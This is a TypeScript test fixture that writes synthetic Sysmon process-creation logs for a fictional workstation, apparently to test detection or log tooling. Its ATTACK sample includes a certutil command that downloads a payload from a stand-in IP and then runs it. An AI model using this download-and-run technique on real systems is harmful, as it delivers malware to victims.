import { type EventField, type EventInput, writeEvtx } from '@casement/evtx';

/** FILETIME ticks of 2024-06-25 09:11:20 UTC. */
const BASE = 133_637_802_800_000_000n;

export interface ProcessStart {
  /** Seconds after 09:11:20. */
  readonly at: number;
  readonly recordId: number;
  readonly pid: number;
  readonly ppid: number;
  readonly image: string;
  readonly parentImage: string;
  readonly commandLine: string;
  readonly host?: string;
  /** As Sysmon writes them: `MD5=…,SHA256=…`. */
  readonly hashes?: string;
}

/** A log of Sysmon process creations, by the project's own writer. */
export function sysmonLog(starts: readonly ProcessStart[]): Uint8Array {
  return writeEvtx(starts.map(processCreate));
}

function processCreate(start: ProcessStart): EventInput {
  const time = BASE + BigInt(start.at) * 10_000_000n;
  const text = (name: string, value: string): EventField => [name, { type: 'string', value }];
  const number = (name: string, value: number): EventField => [name, { type: 'uint32', value }];
  return {
    provider: 'Microsoft-Windows-Sysmon',
    providerGuid: '5770385f-c22a-43e0-bf4c-06f5698ffbd9',
    eventId: 1,
    version: 5,
    level: 4,
    time,
    recordId: BigInt(start.recordId),
    processId: 1500,
    threadId: 1600,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    computer: start.host ?? 'WS01.corp.example',
    data: [
      text('RuleName', '-'),
      text('UtcTime', utcTime(start.at)),
      ['ProcessGuid', { type: 'guid', value: guid(start.pid) }],
      number('ProcessId', start.pid),
      text('Image', start.image),
      text('CommandLine', start.commandLine),
      text('CurrentDirectory', 'C:\\Windows\\system32\\'),
      text('User', 'CORP\\bob'),
      text('Hashes', start.hashes ?? ''),
      ['ParentProcessGuid', { type: 'guid', value: guid(start.ppid) }],
      number('ParentProcessId', start.ppid),
      text('ParentImage', start.parentImage),
      text('ParentCommandLine', start.parentImage),
    ],
  };
}

function utcTime(at: number): string {
  return new Date(Date.UTC(2024, 5, 25, 9, 11, 20 + at)).toISOString().replace('T', ' ').replace('Z', '');
}

function guid(pid: number): string {
  return `00000000-0000-0000-0000-${pid.toString(16).padStart(12, '0')}`;
}

/** A small attack: explorer › cmd › certutil fetching a file, and the file being run. */
export const ATTACK: readonly ProcessStart[] = [
  {
    at: 0,
    recordId: 101,
    pid: 900,
    ppid: 700,
    image: 'C:\\Windows\\System32\\cmd.exe',
    parentImage: 'C:\\Windows\\explorer.exe',
    commandLine: 'cmd.exe',
  },
  {
    at: 10,
    recordId: 102,
    pid: 4312,
    ppid: 900,
    image: 'C:\\Windows\\System32\\certutil.exe',
    parentImage: 'C:\\Windows\\System32\\cmd.exe',
    commandLine: 'certutil -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\bob\\x.exe',
  },
  {
    at: 20,
    recordId: 103,
    pid: 4400,
    ppid: 900,
    image: 'C:\\Users\\bob\\x.exe',
    parentImage: 'C:\\Windows\\System32\\cmd.exe',
    commandLine: 'x.exe --run',
  },
];
